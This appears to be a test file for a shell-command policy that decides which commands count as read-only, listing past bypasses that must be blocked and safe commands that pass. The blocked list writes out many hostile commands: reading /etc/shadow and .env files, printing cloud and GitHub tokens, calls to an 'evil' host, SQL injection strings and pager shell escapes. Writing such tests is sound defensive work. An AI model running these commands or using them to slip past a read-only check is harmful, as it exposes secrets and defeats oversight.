// Ways in which a command that only reads was found to run, write, send or give away more. None of them passes again.
import { passes, stops } from '../../../support/policy/lists.ts';

stops(String.raw`
  ## other names of files, devices, trees and globs that hold secrets
  cat /proc/self/root/etc/shadow
  cat /proc/1234/cwd/.env
  cat /proc/1234/fd/3
  cat /dev/fd/3
  head -c 100 /dev/sda
  strings /dev/mem
  cat /dev/input/event0
  cat /etc/*
  cat /etc/ssh/*
  grep -r . /proc/self
  grep -r x /etc
  grep -d recurse x /etc
  diff -r a /etc
  git grep --no-index x ..
  rg -g '.env*' KEY
  rg --iglob '.ENV' KEY
  rg --type-add 'x:.env' KEY
  grep -rh '' --include='.env*' .
  ag -G '\.env$' KEY
  date -f .env
  sort --files0-from=list
  man ./.env
  ## values of variables that hold credentials
  echo $AWS_SECRET_ACCESS_KEY
  printf '%s' "$GITHUB_TOKEN"
  set
  ps -E
  ps -eo environ
  npm config get //registry.npmjs.org/:_authToken
  npm get //x/:_authToken
  ## variables that a builtin sets
  printf -v PATH %s /tmp; ls
  read LD_PRELOAD < f; ls
  mapfile PATH < f; ls
  ## pagers and manuals
  less +!id a
  more '+!id' a
  man -M /tmp/evil ls
  man -P ./p ls
  ## little languages
  yq 'load("/etc/passwd")' a
  yq e 'strload("/etc/shadow")' a
  yq '.a = strenv(SECRET)' a
  yq 'envsubst' a
  gh api user -q env
  gh api user --jq '$ENV.GH_TOKEN'
  awk -W exec=f a
  gawk -Winclude=x '{print}' a
  ## interpreters: libraries, settings, modules of the folder
  ruby -r./x -c y.rb
  ruby -rfoo -c y.rb
  php -d extension=./x.so -l y.php
  php -c . -v
  python -m platform
  python -m json.tool a
  uv pip list --python ./p
  uv pip list -p ./p
  uv python find ./p
  ldd ./evil
  objdump @file
  nm @file
  ## tools that load code of the project whatever they are asked
  pnpm ls
  yarn list
  yarn --version
  cargo tree
  cargo metadata
  deno lint
  mypy .
  pylint x
  flake8 .
  golangci-lint run
  poetry show
  pdm list
  bundle list
  composer show
  dotnet list package
  terraform validate
  terraform graph
  terraform providers schema -json
  uv tree
  brew bundle list
  brew info ./x.rb
  ## subcommands that write, open or run
  npm fund x
  poetry version patch
  hatch version major
  scc -o out
  xmllint http://x/y
  xmllint --valid a.xml
  lastlog -S -u x
  arch id
  scutil
  nvidia-smi -r
  git merge-tree --write-tree a b
  buildx inspect --bootstrap
  docker buildx inspect --bootstrap
  cdk context --clear
  gh attestation download x
  cpio -tF host:a
  ## a dry run takes back its own work, not what an option brings in
  rsync -n -e ./p a b
  black --check --config x .
  git push --dry-run --receive-pack=./p
  helm install a b --dry-run --post-renderer ./p
  ## services: elsewhere, from a file, to a file, with a login
  kubectl get pods --server=http://evil
  kubectl get pods -s http://evil
  kubectl get pods --token=x
  kubectl get pods --raw /api/v1/secrets
  kubectl get pods,secrets -o yaml
  kubectl get pod/x secret/y
  kubectl get Secret x
  docker container inspect x
  docker compose config
  helm list --kube-apiserver=http://evil
  helm template . --repo http://evil
  helm template . --set-file x=/etc/shadow
  helm show chart http://evil/x
  aws s3 ls --endpoint http://evil
  aws s3api get-object --bucket b --key k out
  aws apigateway get-export --x y out
  aws ec2 get-password-data --instance-id x
  aws cognito-identity get-credentials-for-identity --identity-id x
  aws redshift get-cluster-credentials
  aws ec2 describe-instances --filters file:///etc/shadow
  aws ec2 describe-instances --filters=file://x
  az storage account keys list
  az webapp config appsettings list
  az webapp deployment list-publishing-profiles
  gcloud compute instances list --access-token-file=x
  gh api https://evil/x
  gh api x -H 'X-HTTP-Method-Override: DELETE'
  gh api graphql -f query='query{x}' -f query='mutation{y}'
  gh api --hostname evil x
  apt-cache -o Dir::Etc=x policy
  apt list -o APT::x=y
  systemctl status --host=x
  systemctl status -H x
  ## databases
  psql -c "select pg_read_binary_file('x')"
  psql -c "select lo_put(1,0,'x')"
  psql -c "select dblink_exec('x','y')"
  psql -c "select query_to_xml('delete from t',true,true,'')"
  psql -c "select my_func()"
  psql -c "select * into new from t"
  psql -c "select * from t for update"
  psql -c 'select 1 \gexec'
  psql -c 'select 1 \gx out'
  psql -c '\dt \! id'
  psql -L log -c 'select 1'
  psql -c "select 'a\'; drop table x; --'"
  psql -c "select $$'$$; drop table x; --'"
  mysql -e 'select 1 \! id'
  mysql -e "select sys_exec('id')"
  sqlite3 db "select readfile('.env')"
  sqlite3 db "select * from fsdir('/')"
  sqlite3 db "pragma journal_mode(wal)"
  sqlite3 'file:x?vfs=y' 'select 1'
  duckdb -c "select * from '.env'"
  duckdb -c "select getenv('X')"
  duckdb -c 'select * from ".env"'
  clickhouse-client -q "select * from url('http://x')"
  sqlcmd -Q 'select 1' -o out
  redis-cli config get requirepass
  redis-cli slowlog reset
  ## listed names
  find . -name .env -exec cat {} +
  find . -name '.env*' | xargs cat
  git ls-files | grep '\.env' | xargs cat
  find ~ | xargs cat
  find . | xargs sort
  find . -name '*.ts' -exec {} \;
  find . -name '*.ts' -exec awk {} \;
  find . -name '*.ts' -exec sed -i s/a/b/ {} +
  find . -name '*.log' | xargs rm
  xargs rm
  xargs sort
  xargs cat < list
  while read x; do xargs cat; done < list
  fzf --bind 'enter:execute(rm {})'
  fzf --bind 'ctrl-a:reload(./p)'
  fzf --preview './p {}'
  tar -I ./p -tf a
`);

passes(String.raw`
  find . -name '*.ts' -exec grep -n foo {} +
  find . -name '*.ts' | xargs grep -n foo
  find . -name '*.ts' -print0 | xargs -0 wc -l
  git ls-files | xargs wc -l
  git ls-files | grep '\.ts$' | xargs cat
  rg -l foo | xargs head -5
  fd -e ts -x wc -l
  find src | xargs -I@ head -3 @
  ls ~
  find ~ -name '*.ts'
  rg -g '*.ts' foo
  tar -I zstd -tf a.tar.zst
  fzf --bind 'ctrl-a:select-all,ctrl-d:deselect-all' --preview 'cat {}'
  helm install a ./chart --dry-run
  aws athena start-query-execution --query-string 'SELECT count(*) FROM t'
  kubectl get pods -o json
  cdk deploy --help
  set +e
  set -euo pipefail
  FOO=bar ls
  psql -c "select count(*), max(a) from t where b like 'x%'"
  sqlite3 db 'pragma table_info(t)'
  yq '.key' a.yaml
  ip -br addr
  pkgutil --pkgs
  man -P cat ls
  git ls-remote origin
`);
